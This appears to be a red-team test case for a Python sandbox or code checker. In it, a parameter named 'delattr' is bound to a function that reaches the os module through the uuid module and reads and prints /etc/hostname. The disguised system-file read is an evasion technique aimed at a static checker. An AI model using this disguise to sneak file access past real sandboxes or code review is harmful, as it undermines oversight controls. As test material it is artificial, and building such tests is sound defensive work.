# family: red team, round 63b (a parameter named delattr receives the module; checker reads a store chain)
import uuid
def reveal(where, key):
    print(where)
    handle = where.os.open("/etc/hostname", 0)
    print(where.os.read(handle, 200).decode().strip())
def run(delattr):
    for key in ("uuid4",):
        delattr(uuid, key)
run(reveal)
